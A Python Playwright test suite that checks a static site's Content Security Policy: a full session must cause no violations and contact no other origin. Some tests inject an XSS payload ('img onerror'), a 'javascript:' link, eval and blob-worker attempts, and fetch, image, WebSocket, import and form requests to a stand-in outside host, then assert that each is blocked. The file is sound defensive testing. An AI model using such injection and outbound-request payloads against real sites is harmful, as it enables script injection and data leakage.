"""In a browser: a whole session is allowed and leaves nothing; what a hostile page would try is refused."""

from __future__ import annotations

import re
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Error, expect

from tests.browser.composer_page import ComposerPage
from tests.browser.serving import serve

LISTEN = """
window.violations = [];
document.addEventListener("securitypolicyviolation", (event) =>
  window.violations.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`));
"""


@pytest.fixture
def watched(page):
    """A page whose violations, and whatever the console says of the policy, are gathered in a list."""
    page.add_init_script(LISTEN)
    page.said = []
    page.context.on("console", lambda message: page.said.append(message.text))
    page.on("pageerror", lambda error: page.said.append(str(error)))
    return page


@pytest.fixture
def at_rest(watched, site):
    """The composer's page, whose Python never starts: its policy is in force without it."""
    # A route that is never answered.
    watched.route("**/worker.*.js", lambda _route: None)
    watched.goto(f"{site}composer/")
    return watched


def violations(page) -> list[str]:
    of_policy = [
        text for text in page.said if re.search(r"Content.Security.Policy|Refused to|violates", text)
    ]
    return [*page.evaluate("window.violations"), *of_policy]


def wait_for_violations(page, count: int) -> None:
    # Playwright's own way to wait needs eval in the page.
    page.evaluate(
        "async (count) => { while (window.violations.length < count) await new Promise(requestAnimationFrame); }",
        count,
    )


def test_a_full_session_breaks_no_policy_and_asks_no_other_origin(watched, site, interviews):
    page = watched
    asked = []
    page.context.on("request", lambda request: asked.append(request.url))
    composer = ComposerPage(page, site)
    page.goto(site)
    page.locator(".md-search__input").first.focus()
    page.keyboard.type("concern", delay=20)
    expect(page.locator(".md-search-result__item")).not_to_have_count(0)
    page.keyboard.press("Escape")
    page.locator("label[for=__palette_1], label[for=__palette_2]").first.evaluate("label => label.click()")
    assert [] == violations(page)
    for path in ("writing/", "timing/", "contributing/", "404.html"):
        page.goto(site + path)
        expect(page.get_by_role("main")).to_be_visible()
        assert [] == violations(page), path

    page.goto(site)
    page.locator("a[href='composer/']").filter(visible=True).first.click()
    composer.ready().import_(interviews, expected=8)
    composer.fill(company="Typed words")
    expect(composer.notes.first).to_contain_text("Typed words")
    composer.download(page.get_by_role("button", name="Remind me (.ics)"))
    composer.note.get_by_text("Open in mail").click()
    composer.download(composer.note.get_by_role("button", name="Mail file"))
    composer.show("Interviews")
    composer.download(page.get_by_role("button", name="Export", exact=True))
    page.reload()
    composer.ready()
    assert [] == violations(page)

    own = urlsplit(site).netloc
    elsewhere = [
        url for url in asked if urlsplit(url).scheme in {"http", "https"} and urlsplit(url).netloc != own
    ]
    assert [] == elsewhere
    assert any("pyodide.asm.wasm" in url for url in asked)
    assert not [url for url in asked if "Typed" in url]


def test_a_script_put_into_the_page_does_not_run(at_rest):
    at_rest.evaluate("""() => {
        const script = document.createElement("script");
        script.textContent = "window.hacked = true";
        document.body.append(script);
        document.querySelector("#ati-drafts").innerHTML = '<img src=x onerror="window.hacked = true">';
        const link = document.createElement("a");
        link.href = "javascript:void(window.hacked = true)";
        document.body.append(link);
        link.click();
    }""")
    wait_for_violations(at_rest, 3)
    assert at_rest.evaluate("window.hacked") is None


FETCH = "fetch('ELSEWHERE/word')"
IMAGE = """new Promise((done, fail) => {
    const image = new Image();
    [image.onload, image.onerror] = [done, fail];
    image.src = "ELSEWHERE/word";
})"""
MODULE = "import('ELSEWHERE/word')"
SOCKET = """new Promise((done, fail) => {
    const socket = new WebSocket("ELSEWHERE/word".replace("http", "ws"));
    [socket.onopen, socket.onerror] = [done, fail];
})"""
STYLE = """new Promise((done, fail) => {
    const link = Object.assign(document.createElement("link"), { rel: "stylesheet", href: "ELSEWHERE/word" });
    [link.onload, link.onerror] = [done, fail];
    document.head.append(link);
})"""


def test_nothing_is_sent_elsewhere_or_brought_from_there(at_rest, tmp_path):
    (tmp_path / "index.html").write_text(
        "<!doctype html><link rel=icon href=data:,><title>Without a policy</title>"
    )
    with serve(tmp_path) as elsewhere:
        attempts = [
            attempt.replace("ELSEWHERE", elsewhere.url.removesuffix("/"))
            for attempt in (FETCH, IMAGE, MODULE, SOCKET, STYLE)
        ]
        for count, attempt in enumerate(attempts, 1):
            with pytest.raises(Error):
                at_rest.evaluate(attempt)
            wait_for_violations(at_rest, count)
            assert [] == elsewhere.requests

        at_rest.goto(elsewhere.url)
        for count, attempt in enumerate(attempts, 1):
            at_rest.evaluate(f"{attempt}.catch(() => {{}})")
            assert count == elsewhere.requests.count("word")


def test_code_comes_from_files_of_the_site_alone_and_a_form_is_sent_nowhere(at_rest, site):
    run = """new Promise((done) => setTimeout(() => {
        try { done(Function("return 'it ran'")()); } catch (error) { done(error.name); }
    }))"""
    assert "EvalError" == at_rest.evaluate(run)
    wait_for_violations(at_rest, 1)
    with pytest.raises(Error):
        at_rest.evaluate("""new Promise((done, fail) => {
            const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
            [worker.onmessage, worker.onerror] = [done, fail];
        })""")
    wait_for_violations(at_rest, 2)
    at_rest.evaluate("""() => {
        const form = document.createElement("form");
        form.action = "https://elsewhere.example/";
        document.body.append(form);
        form.submit();
    }""")
    wait_for_violations(at_rest, 3)
    assert at_rest.url.startswith(site)


def test_from_the_second_visit_on_pages_and_workers_have_the_policy_as_a_header_too(watched, site):
    composer = ComposerPage(watched, site).open()
    watched.evaluate("async () => { await navigator.serviceWorker.ready; }")
    expect(watched.locator("#ati-kept")).to_be_visible(timeout=60_000)
    headers = {}
    watched.context.on("response", lambda response: headers.update({response.url: response.headers}))
    watched.reload()
    composer.ready()
    policies = {
        url.removeprefix(site): sent.get("content-security-policy", "") for url, sent in headers.items()
    }
    assert "frame-ancestors 'self'" in policies["composer/"]
    (worker,) = [policy for path, policy in policies.items() if path.startswith("assets/worker.")]
    assert "default-src 'none'" in worker
    assert "connect-src 'self'" in worker
    assert {""} == {policy for path, policy in policies.items() if path.endswith(".wasm")}
    assert [] == violations(watched)
